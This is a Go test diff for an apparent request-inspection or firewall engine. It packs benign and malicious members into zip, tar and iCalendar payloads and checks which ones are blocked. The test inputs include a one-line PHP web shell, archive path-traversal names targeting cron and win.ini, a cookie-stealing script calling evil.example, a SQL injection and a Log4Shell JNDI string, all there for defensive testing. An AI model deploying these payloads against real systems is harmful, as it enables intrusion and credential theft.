@@ -1,6 +1,7 @@
 package engine
 
 import (
+	"archive/tar"
 	"archive/zip"
 	"bytes"
 	"encoding/base64"
@@ -182,4 +183,102 @@ func TestAttacksInData(t *testing.T) {
 			}
 		}
 	}
+}
+
+// TestArchives sends archives with harmless and harmful members.
+func TestArchives(t *testing.T) {
+	e := New(Options{})
+	shell := `<?php system($_GET['c']); ?>`
+	listing := "#!/bin/sh\nset -e\nsudo apt-get update && sudo apt-get install -y nginx\ncurl -fsS http://localhost:8080/healthz | jq '.status'\n"
+	long := strings.Repeat("// A comment of some length.\nfunc f() {}\n", 2500)
+	f := func(name, content string, block bool) {
+		t.Helper()
+		for kind, data := range map[string][]byte{
+			"stored": zipOf(t, zip.Store, name, content), "deflated": zipOf(t, zip.Deflate, name, content),
+			"behind": append(picture(t)[:40000:40000], zipOf(t, zip.Deflate, name, content)...),
+			"last":   zipOf(t, zip.Store, "a.go", long, name, content), "tar": tarOf(t, name, content), "tar last": tarOf(t, "a.go", long, name, content),
+			"tar.gz": []byte(zipped(string(tarOf(t, name, content)))),
+		} {
+			for way, r := range wrappings(data) {
+				if way == "base64" && len(data) > 48<<10 {
+					continue // each window of it is decoded by itself
+				}
+				v, rep := inspect(e, nil, Env{Mode: rule.Block}, &r, whole)
+				if (v.Decision == Block) != block {
+					t.Errorf("%s in %s as %s: score %.2f, %q", name, kind, way, v.Score, loud(rep))
+				}
+			}
+		}
+	}
+	f("run.sh", listing, false)
+	f("src/index.php", "<?php\nnamespace App;\nclass Index { public function get() { return 1; } }\n", false)
+	f("notes/../../../../etc/cron.d/x", "* * * * * root true\n", true)
+	f("../../etc/cron.d/x", "* * * * * root true\n", true)
+	f(`..\..\windows\win.ini`, "a", true)
+	f("images/a.php", shell, true)
+}
+
+func zipOf(t *testing.T, method uint16, members ...string) []byte {
+	var b bytes.Buffer
+	w := zip.NewWriter(&b)
+	for i := 0; i < len(members); i += 2 {
+		f, err := w.CreateHeader(&zip.FileHeader{Name: members[i], Method: method})
+		if err != nil {
+			t.Fatal(err)
+		}
+		if _, err := f.Write([]byte(members[i+1])); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if err := w.Close(); err != nil {
+		t.Fatal(err)
+	}
+	return b.Bytes()
+}
+
+func tarOf(t *testing.T, members ...string) []byte {
+	var b bytes.Buffer
+	w := tar.NewWriter(&b)
+	for i := 0; i < len(members); i += 2 {
+		if err := w.WriteHeader(&tar.Header{Name: members[i], Mode: 0o600, Size: int64(len(members[i+1]))}); err != nil {
+			t.Fatal(err)
+		}
+		if _, err := w.Write([]byte(members[i+1])); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if err := w.Close(); err != nil {
+		t.Fatal(err)
+	}
+	return b.Bytes()
+}
+
+// TestCalendars sends notes on code, and attacks in the same places.
+func TestCalendars(t *testing.T) {
+	e := New(Options{})
+	f := func(description string, block bool) {
+		t.Helper()
+		body := "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\nUID:1\r\nDTSTART;TZID=\"Europe/Berlin\":20260302T090000\r\nDESCRIPTION:" +
+			folded(strings.NewReplacer("\\", `\\`, "\n", `\n`, ",", `\,`, ";", `\;`).Replace(description)) + "\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
+		for _, contentType := range []string{"text/calendar", "application/octet-stream"} {
+			r := request{method: "PUT", target: "/jane/work/1.ics", body: body, fields: []string{"Content-Type", contentType}}
+			if v, rep := inspect(e, nil, Env{Mode: rule.Block}, &r, whole); (v.Decision == Block) != block {
+				t.Errorf("%q as %s: score %.2f, %q", description, contentType, v.Score, loud(rep))
+			}
+		}
+	}
+	f("# Release notes\n\nIt's out -- \"finally\", as O'Neill said (see [issue #42](https://example.com/issues/42?x=1&y=2)).\n\n```sql\nSELECT c.name, COUNT(*) AS orders\nFROM customers c\nGROUP BY c.name HAVING COUNT(*) > 3\nORDER BY orders DESC;\n```\n", false)
+	f("<script>fetch('//evil.example/?' + document.cookie)</script>", true)
+	f("' UNION SELECT login, password FROM users WHERE '1'='1", true)
+	f("${jndi:ldap://evil.example/a}", true)
+}
+
+// folded breaks lines as RFC 5545, 3.1 has it.
+func folded(s string) string {
+	var b strings.Builder
+	for len(s) > 60 {
+		b.WriteString(s[:60] + "\r\n ")
+		s = s[60:]
+	}
+	return b.String() + s
 }
